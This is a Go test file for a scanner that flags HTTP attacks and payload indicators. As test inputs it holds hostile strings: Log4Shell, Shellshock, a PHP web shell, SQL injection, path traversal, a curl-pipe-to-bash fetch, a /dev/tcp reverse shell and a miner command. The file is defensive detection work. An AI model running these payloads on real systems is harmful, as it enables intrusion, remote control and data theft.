package patterns

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/syn2much/mantis/internal/model"
)

func matchNames(matches []Match) []string {
	names := make([]string, 0, len(matches))
	for _, m := range matches {
		names = append(names, m.Name)
	}
	return names
}

func TestScanHTTPThreatsLog4Shell(t *testing.T) {
	matches := ScanHTTPThreats("/index.jsp?q=${jndi:ldap://evil/a}")
	require.NotEmpty(t, matches)
	assert.Contains(t, matchNames(matches), "log4shell")
	assert.Equal(t, model.SeverityCritical, WorstSeverity(matches))
}

func TestScanHTTPThreatsTable(t *testing.T) {
	tests := []struct {
		name   string
		corpus string
		want   string
	}{
		{"shellshock", `() { :; }; /bin/bash -c id`, "shellshock"},
		{"php rce", `<?php system($_GET['c']); ?>`, "php_rce"},
		{"sql injection", `admin' OR 1=1`, "sql_injection"},
		{"path traversal", `../../../../etc/passwd`, "path_traversal"},
		{"xss", `<script>alert(1)</script>`, "xss"},
		{"cve path probe", `GET /.env HTTP/1.1`, "cve_path_probe"},
		{"webshell probe", `/uploads/c99.php`, "webshell_probe"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Contains(t, matchNames(ScanHTTPThreats(tt.corpus)), tt.want)
		})
	}
}

func TestScanPayloadIOCsReportsDistinctDownloaderRules(t *testing.T) {
	names := matchNames(ScanPayloadIOCs("curl http://evil.tld/x.sh | bash"))
	assert.Contains(t, names, "curl_download")
	assert.Contains(t, names, "curl_pipe_sh")
	assert.NotContains(t, names, "wget_download")
}

func TestScanPayloadIOCsReverseShellAndMiner(t *testing.T) {
	assert.Contains(t, matchNames(ScanPayloadIOCs("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")), "reverse_shell")
	assert.Contains(t, matchNames(ScanPayloadIOCs("./xmrig -o stratum+tcp://pool:3333")), "miner")
}

func TestWorstSeverityEmptyMatches(t *testing.T) {
	assert.Equal(t, model.Severity(""), WorstSeverity(nil))
}

func TestExtractIOCsURLsAndDomains(t *testing.T) {
	iocs := ExtractIOCs("wget http://evil.tld/payload.sh; ping c2.example.com")
	assert.Equal(t, []string{"http://evil.tld/payload.sh"}, iocs.URLs)
	assert.Contains(t, iocs.Domains, "c2.example.com")
	assert.True(t, iocs.Significant())
}

func TestExtractIOCsFiltersPrivateIPs(t *testing.T) {
	iocs := ExtractIOCs("connect 192.168.1.5 then 203.0.113.9")
	assert.Equal(t, []string{"203.0.113.9"}, iocs.IPs)
}

func TestExtractIOCsUnknownTLDIgnored(t *testing.T) {
	iocs := ExtractIOCs("beacon to host.internal every 60s")
	assert.Empty(t, iocs.Domains)
}

func TestExtractIOCsHashLengthDisambiguation(t *testing.T) {
	md5 := strings.Repeat("a", 32)
	sha256 := strings.Repeat("b", 64)
	iocs := ExtractIOCs(md5 + " " + sha256)
	assert.Equal(t, []string{md5}, iocs.MD5)
	assert.Equal(t, []string{sha256}, iocs.SHA256)
	assert.Empty(t, iocs.SHA1, "a 40-char prefix of a sha256 run must not double-count")
}

func TestExtractIOCsCapsEachList(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 30; i++ {
		b.WriteString("http://evil.tld/")
		b.WriteByte(byte('a' + i%26))
		b.WriteString("x")
		b.WriteString(strings.Repeat("y", i/26+1))
		b.WriteString(" ")
	}
	iocs := ExtractIOCs(b.String())
	assert.LessOrEqual(t, len(iocs.URLs), 20)
}
